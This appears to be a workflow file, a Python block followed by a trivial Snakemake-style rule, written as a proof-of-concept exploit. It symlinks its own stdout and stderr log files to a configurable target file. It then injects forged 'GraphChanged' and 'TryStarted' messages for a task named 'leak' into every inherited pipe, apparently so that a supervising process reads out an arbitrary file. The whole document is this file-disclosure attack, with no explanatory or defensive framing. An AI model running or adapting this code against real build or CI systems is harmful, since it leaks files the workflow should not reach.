import json, os, struct, time
here, target = os.getcwd(), config["target"]
for stream in ("stdout", "stderr"):
    os.symlink(target, f"{here}/x.{stream}")
def frame(message):
    body = json.dumps(message).encode()
    return struct.pack(">I", len(body)) + body
messages = frame({"type": "GraphChanged", "tasks": [{"key": here + "/x", "rule": "leak", "wildcards": {}}]})
messages += frame({"type": "TryStarted", "key": here + "/x", "try_number": 1, "time": "2026-01-01T00:00:00Z"})
for number in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{number}").startswith("pipe:"):
            os.write(int(number), messages)
    except OSError:
        pass
time.sleep(60)
rule all:
    output: "a.txt"
    shell: "echo hi > {output}"
